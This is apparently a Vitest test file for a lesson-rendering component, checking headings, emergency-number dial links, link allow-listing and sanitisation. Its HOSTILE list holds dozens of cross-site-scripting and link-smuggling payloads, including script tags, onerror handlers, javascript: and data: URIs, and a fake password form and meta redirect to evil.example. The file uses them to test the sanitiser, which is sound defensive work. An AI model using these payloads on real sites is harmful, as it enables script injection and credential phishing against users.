import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { LessonBody } from "#ui/lesson-body";

const NUMBERS = [
  { name: "police-emergency", label: "Police in an emergency", number: "999", action: "call" },
  { name: "british-transport-police", label: "British Transport Police", number: "61016", action: "text" },
  { name: "silent-solution", label: "Cannot speak on a mobile", number: "55", action: "press" },
] as const;

type Element = DefaultTreeAdapterTypes.Element;

function render(text: string): string {
  return renderToStaticMarkup(<LessonBody text={text} numbers={NUMBERS} />);
}

function elementsOf(html: string): Element[] {
  const walk = (node: DefaultTreeAdapterTypes.Node): Element[] => [
    ...("tagName" in node ? [node] : []),
    ...("childNodes" in node ? node.childNodes.flatMap(walk) : []),
  ];
  return walk(parseFragment(html));
}

describe("a lesson reads as its editor wrote it", () => {
  test("paragraphs, headings, bold words and lists", () => {
    expect(render("## Who is a child?\n\nAnyone **under 18**.\n\n- a boy\n- a girl\n\nMore.")).toBe(
      '<div class="app-lesson"><h2 class="govuk-heading-m">Who is a child?</h2><p class="govuk-body">Anyone <strong>under 18</strong>.</p>' +
        '<ul class="govuk-list govuk-list--bullet govuk-list--spaced"><li>a boy</li><li>a girl</li></ul><p class="govuk-body">More.</p></div>',
    );
  });
  test("steps, quotes, emphasis and a line across", () => {
    const html = render("1. Stop.\n2. Call.\n\n> “I am fine.”\n\n---\n\n*Listen.* Then act.");
    expect(elementsOf(html).map(({ tagName }) => tagName)).toEqual(["div", "ol", "li", "li", "blockquote", "p", "hr", "p", "em"]);
  });
  test("the page's own h1 stays the only one", () => {
    expect(render("# Very large")).toContain('<h2 class="govuk-heading-m">Very large</h2>');
  });
  test("a last paragraph that begins in bold is set apart, and only then", () => {
    expect(render("One.\n\n**Remember:** two.")).toContain(
      '<div class="app-lesson__point"><p class="govuk-body"><strong>Remember:</strong> two.</p></div>',
    );
    expect(render("**Remember:** two.\n\nOne.")).not.toContain("app-lesson__point");
  });
});

describe("numbers", () => {
  test("a tap on one dials it, and a text is a text", () => {
    expect(render("Call {{number:police-emergency}}.")).toContain('Call <a class="govuk-link app-dial" href="tel:999">999</a>.');
    expect(render("Text {{number:british-transport-police}}.")).toContain('href="sms:61016"');
  });
  test("a key to press is no link", () => {
    expect(render("Press **{{number:silent-solution}}** now.")).toContain("<strong><strong>55</strong></strong>");
  });
  test("one in a heading and one in a list work too", () => {
    expect(render("## Yes: call {{number:police-emergency}}\n\n- or {{number:police-emergency}}").match(/tel:999/g)).toHaveLength(2);
  });
  test("one that has left the list leads to the card instead of nowhere", () => {
    expect(render("Call {{number:gone}}.")).toContain('<a class="govuk-link" href="/report-a-concern">see who to call</a>');
  });
});

describe("links", () => {
  test.each(["/report-a-concern", "/help#password", "https://www.police.uk/pu/contact-us/", "https://example.org"])("%s is one", (href) => {
    expect(render(`[there](${href})`)).toContain(`<a class="govuk-link" href="${href}">there</a>`);
  });
  test("what is not allowed stays as it was written", () => {
    expect(render("[there](http://example.org)")).toContain("[there](http://example.org)");
  });
});

/** What people have put into texts to make somebody else's browser obey them. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=https://evil.example><input type=password><button>go</button></form>",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>body{background:url(https://evil.example)}</style>",
  '<p style="position:fixed;inset:0">over everything</p>',
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=1?><script>alert(1)</script>",
  "</div></main><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "**<script>alert(1)</script>**",
  "# <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "> <img src=x onerror=alert(1)>",
  "    <script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](\\\\evil.example)",
  "[x](</&Tab;/evil.example>)",
  "[x](/%5Cevil.example)",
  "[x](https://www.police.uk@evil.example)",
  "[x](https://www.police.uk%40evil.example)",
  '[x](/help "onmouseover=alert(1)")',
  '[x](/help" onmouseover="alert(1))',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<https://evil.example>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.gif)",
  '![x](x "onerror=alert(1)")',
  "[![x](x)](javascript:alert(1))",
  '{{number:"><script>alert(1)</script>}}',
  '{{number:police-emergency"onclick=alert(1)}}',
  "{{number:constructor}} {{number:__proto__}}",
  "\u0000<script>alert(1)</script>",
  "﻿<script>alert(1)</script>",
];

const ELEMENTS = /^(div|p|h2|h3|ul|ol|li|blockquote|strong|em|br|hr|a)$/;
const HREF = /^(\/(?![/\\])[^\\\s]*|https:\/\/(?![^/]*@)[^\s\\]+|tel:\d+|sms:\d+)$/;

describe("nothing an editor can write reaches a driver's browser as more than text", () => {
  test.each(HOSTILE)("%j", (text) => {
    for (const element of elementsOf(render(text))) {
      expect(element.tagName).toMatch(ELEMENTS);
      expect(element.attrs.map(({ name }) => name).filter((name) => name !== "class" && name !== "href")).toEqual([]);
      for (const { name, value } of element.attrs) if (name === "href") expect(value).toMatch(HREF);
    }
  });

  test("and what leads away leads where it says", () => {
    const disguised = HOSTILE.filter((text) => !text.includes("https://evil.example"));
    const origins = disguised
      .flatMap((text) => elementsOf(render(text)))
      .flatMap(({ attrs }) => attrs.filter(({ name }) => name === "href"))
      .map(({ value }) => new URL(value, "https://fareguard.example"))
      .filter(({ protocol }) => protocol === "https:")
      .map(({ hostname, username }) => [hostname, username]);
    expect(origins.filter(([hostname, username]) => username !== "" || hostname?.includes("evil"))).toEqual([]);
  });
});
